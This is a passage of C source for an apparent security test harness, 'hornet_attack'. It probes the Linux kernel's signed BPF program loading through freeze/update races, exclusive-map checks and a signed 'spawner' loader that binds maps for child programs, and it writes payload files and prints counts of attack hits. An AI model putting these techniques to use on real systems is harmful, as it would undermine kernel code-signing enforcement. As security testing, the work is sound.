			while (atomic_load(&inflight.done) != t)
				;
		} else {
			/* The freeze came first: the update saw it. */
			if (fr || inflight.ret != -EPERM) {
				fprintf(stderr, "hornet_attack: try %d: freeze=%d update=%d\n",
					t, fr, inflight.ret);
				exit(1);
			}
			bias = bias > -INFLIGHT_BIAS_MAX ? bias - 1 : 0;
			freeze_first++;
		}
		close(blob_fd);
	}
	atomic_store(&inflight.go, -1);
	pthread_join(thread, NULL);
	printf("tries=%d writer_first=%d freeze_first=%d hits=%d loaded=%d refused_eperm=%d refused_ebusy=%d other=%d read_attacker=%d read_signed=%d late_writes=%d",
	       t - 1, writer_first, freeze_first, hits, loaded, refused, busy,
	       other, read_attacker, read_signed, late);
	inflight_control(loader_sig, loader_sig_len, exclusive ? excl : NULL);
	return 0;
}

/* --- excl ---------------------------------------------------------------- */

/* Whether an array of maps can be shaped after TEMPLATE_FD's map: 0 or -errno. */
static int create_map_of_maps(int template_fd)
{
	int fd = map_of_maps_create(template_fd);

	if (fd < 0)
		return fd;
	close(fd);
	return 0;
}

/*
 * What a map exclusive to the loader's instructions lets programs do with
 * it, against the same steps on a plain map (the control), one line each:
 *   KIND: own=R own_sparse=R other=R inner_template=R inner_insert=R iter=R
 * own: the loader's instructions (unsigned) bind it in fd_array, with
 * fd_array_cnt 1; own_sparse: the same with fd_array_cnt 0, so that the
 * map is bound when the instruction naming it is read; other: the
 * writer's do; inner_template: an array of maps is made with it as the
 * inner map's template; inner_insert: it is put into an array of maps made
 * after a plain map; iter: a map element iterator is attached to it.
 */
static int cmd_excl(void)
{
	uint8_t hash[SHA256_DIGEST_BYTES];
	int i;

	sha256_digest(loader_insns, sizeof(loader_insns), hash);
	for (i = 0; i < 2; i++) {
		int fd, tmpl_fd, own, own_sparse, other, tmpl, ins, iter;

		fd = blob_map_create_excl("excl_blob", blob, BLOB_SIZE, false, 0,
					  i ? NULL : hash);
		tmpl_fd = blob_map_create("excl_tmpl", blob, BLOB_SIZE, false);
		if (fd < 0 || tmpl_fd < 0) {
			errno = fd < 0 ? -fd : -tmpl_fd;
			die("excl: the maps");
		}
		own = load("h_excl_own", loader_insns, 4, &fd, 1, NULL, 0);
		own_sparse = load("h_excl_own", loader_insns, 4, &fd, 0, NULL, 0);
		other = load("h_excl_other", writer_insns,
			     sizeof(writer_insns) / sizeof(writer_insns[0]), &fd, 1, NULL, 0);
		tmpl = create_map_of_maps(fd);
		ins = put_in_map_of_maps_after(tmpl_fd, fd);
		iter = attach_map_iter(fd, NULL, 0);
		printf("%s: own=%d own_sparse=%d other=%d inner_template=%d inner_insert=%d iter=%d\n",
		       i ? "plain" : "excl", own < 0 ? own : 0,
		       own_sparse < 0 ? own_sparse : 0, other < 0 ? other : 0,
		       tmpl, ins, iter);
		if (own >= 0)
			close(own);
		if (own_sparse >= 0)
			close(own_sparse);
		if (other >= 0)
			close(other);
		close(tmpl_fd);
		close(fd);
	}
	return 0;
}

/* --- spawn --------------------------------------------------------------- */

static struct bpf_insn spawner[128];
static struct insn_prog spawn_prog = { spawner, 0, 128 };
static uint8_t spawn_blob[BLOB_SIZE];

static unsigned int emit(struct bpf_insn insn)
{
	return insn_emit(&spawn_prog, insn);
}

/* The spawner's context: which map its child gets, and whether it freezes it. */
struct spawn_ctx {
	uint32_t fd;
	uint32_t flags;
};

#define SPAWN_USE_FD	1	/* the child's map is ctx.fd, not the new map */
#define SPAWN_FREEZE	2	/* freeze the child's map before the load */

/*
 * The spawner and its blob: the child's instructions (r1 = the map of
 * fd_array[0]; return 0) and its license. The spawner makes a map; the
 * child's fd_array[0] is that map, or with SPAWN_USE_FD the context's fd,
 * as a steered fd table would give; with SPAWN_FREEZE the spawner first
 * freezes that map, as a light skeleton's loader freezes .rodata. It
 * returns the child's fd, or the first error.
 */
static void build_spawner(void)
{
	const struct bpf_insn child[] = {
		INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, BPF_PSEUDO_MAP_IDX, 0, 0),
		INSN(0, 0, 0, 0, 0),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	unsigned int fail[2], skip, end;

	memcpy(spawn_blob, child, sizeof(child));
	memcpy(spawn_blob + sizeof(child), "GPL", 4);

	spawn_prog.cnt = 0;
	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_6, BPF_REG_1, 0, 0));
	emit(INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_7, BPF_PSEUDO_MAP_IDX_VALUE, 0, 0));
	emit(INSN(0, 0, 0, 0, 0));
	/* map_create(array, key 4, value 8, one entry) */
	insn_emit_zero_attr(&spawn_prog);
	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -128, BPF_MAP_TYPE_ARRAY));
	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -124, 4));
	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -120, 8));
	emit(INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -116, 1));
	insn_emit_sys_bpf(&spawn_prog, BPF_MAP_CREATE);
	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_8, BPF_REG_0, 0, 0));
	fail[0] = emit(INSN(BPF_JMP | BPF_JSLT | BPF_K, BPF_REG_8, 0, 0, 0));
	/* r9: the child's map, the context's fd or the new map's */
	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_1, BPF_REG_6, 4, 0));
	emit(INSN(BPF_ALU64 | BPF_AND | BPF_K, BPF_REG_1, 0, 0, SPAWN_USE_FD));
	emit(INSN(BPF_JMP | BPF_JEQ | BPF_K, BPF_REG_1, 0, 2, 0));
	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_9, BPF_REG_6, 0, 0));
	emit(INSN(BPF_JMP | BPF_JA, 0, 0, 1, 0));
	emit(INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_9, BPF_REG_8, 0, 0));
	/* map_freeze(r9), if asked */
	emit(INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_1, BPF_REG_6, 4, 0));
	emit(INSN(BPF_ALU64 | BPF_AND | BPF_K, BPF_REG_1, 0, 0, SPAWN_FREEZE));
	skip = emit(INSN(BPF_JMP | BPF_JEQ | BPF_K, BPF_REG_1, 0, 0, 0));
	insn_emit_zero_attr(&spawn_prog);
	emit(INSN(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_9, -128, 0));
	insn_emit_sys_bpf(&spawn_prog, BPF_MAP_FREEZE);
	fail[1] = emit(INSN(BPF_JMP | BPF_JSLT | BPF_K, BPF_REG_0, 0, 0, 0));
	spawner[skip].off = spawn_prog.cnt - skip - 1;
	/* fd_array[0], at fp - 136 */
	emit(INSN(BPF_STX | BPF_MEM | BPF_W, BPF_REG_10, BPF_REG_9, -136, 0));
	/* prog_load(socket filter, the blob's four insns, "GPL", fd_array) */
	insn_emit_child_load(&spawn_prog, 4, sizeof(child), "h_child\0", -136);
	end = emit(INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
	for (int i = 0; i < 2; i++)
		spawner[fail[i]].off = end - fail[i] - 1;
}

static int cmd_spawn(const char *sig_path, int32_t keyring,
		     const char *child_map, int runs, bool freeze_first)
{
	static uint8_t sig[65536];
	struct spawn_ctx ctx = { 0, 0 };
	uint32_t blob_id, foreign_id, bound_id;
	int blob_fd, foreign_fd, loader_fd;
	size_t sig_len;

	build_spawner();
	sig_len = read_sig(sig_path, sig, sizeof(sig));
	blob_fd = signed_blob_create("spawn_blob", spawner, spawn_prog.cnt, spawn_blob,
				     BLOB_SIZE, true);
	foreign_fd = blob_map_create("spawn_foreign", blob, 8, false);
	if (blob_fd < 0 || foreign_fd < 0) {
		errno = blob_fd < 0 ? -blob_fd : -foreign_fd;
		die("spawner maps");
	}
	blob_id = obj_id(blob_fd, false, NULL);
	foreign_id = obj_id(foreign_fd, false, NULL);
	if (!strcmp(child_map, "blob")) {
		ctx = (struct spawn_ctx){ (uint32_t)blob_fd, SPAWN_USE_FD };
	} else if (!strcmp(child_map, "foreign")) {
		ctx = (struct spawn_ctx){ (uint32_t)foreign_fd, SPAWN_USE_FD };
	} else if (strcmp(child_map, "own")) {
		fprintf(stderr, "hornet_attack: unknown child map '%s'\n", child_map);
		exit(2);
	}
	if (freeze_first)
		ctx.flags |= SPAWN_FREEZE;

	load_keyring = keyring;
	loader_fd = load("h_spawner", spawner, spawn_prog.cnt, &blob_fd, 1, sig,
			 sig_len);
	report("loader", loader_fd);
	if (loader_fd < 0)
		return 0;
	printf("loader_id=%u\n", obj_id(loader_fd, true, NULL));
	for (int r = 1; r <= runs; r++) {
		int32_t child = 0;
		int ret = test_run(loader_fd, &ctx, sizeof(ctx), &child);
		const char *bound = "none";

		if (!ret && child >= 0) {
			obj_id(child, true, &bound_id);
			bound = bound_id == blob_id ? "blob" :
				bound_id == foreign_id ? "foreign" :
				bound_id ? "own" : "none";
			close(child);
		}
		printf("run=%d ret=%d child=%d bound=%s\n", r, ret,
		       child < 0 ? child : 0, bound);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "payload-loader")) {
		write_file(argv[2], loader_insns, sizeof(loader_insns), blob,
			   BLOB_SIZE);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "payload-writer")) {
		write_file(argv[2], writer_insns, sizeof(writer_insns), blob,
			   BLOB_SIZE);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "payload-dummy")) {
		write_file(argv[2], dummy_insns, sizeof(dummy_insns), NULL, 0);
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "payload-spawner")) {
		build_spawner();
		write_file(argv[2], spawner, spawn_prog.cnt * sizeof(*spawner),
			   spawn_blob, BLOB_SIZE);
		return 0;
	}
	if (argc == 5 && !strcmp(argv[1], "run"))
		return cmd_run(argv[2], argv[3], argv[4], true);
	if (argc == 7 && !strcmp(argv[1], "past"))
		return cmd_past(argv[2], argv[3], argv[4], argv[5], argv[6]);
	if (argc == 3 && !strcmp(argv[1], "split"))
		return cmd_split(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "excl"))
		return cmd_excl();
	if (argc == 5 && !strcmp(argv[1], "inflight"))
		return cmd_inflight(argv[2], atoi(argv[3]), atoi(argv[4]), false);
	if (argc == 6 && !strcmp(argv[1], "inflight") && !strcmp(argv[5], "exclusive"))
		return cmd_inflight(argv[2], atoi(argv[3]), atoi(argv[4]), true);
	if (argc == 6 && !strcmp(argv[1], "spawn"))
		return cmd_spawn(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]),
				 false);
	if (argc == 7 && !strcmp(argv[1], "spawn") && !strcmp(argv[6], "freeze"))
		return cmd_spawn(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]),
				 true);
	if (argc == 6 && !strcmp(argv[1], "run") && !strcmp(argv[5], "unfrozen"))
		return cmd_run(argv[2], argv[3], argv[4], false);
	fprintf(stderr, "usage: hornet_attack payload-loader|payload-writer|payload-dummy|payload-spawner OUT\n"
			"       hornet_attack run LOADER_SIG|- WRITER_SIG|- DUMMY_SIG|- [unfrozen]\n"
			"       hornet_attack past none|bound|map_in_map|iter|bind_map HISTORY_MODE LOAD_MODE LOADER_SIG WRITER_SIG|-\n"
			"       hornet_attack inflight LOADER_SIG TRIES HITS [exclusive]\n"
			"       hornet_attack split LOADER_SIG\n"
			"       hornet_attack excl\n"
			"       hornet_attack spawn SIG|- KEYRING own|blob|foreign RUNS [freeze]\n");
	return 2;
}
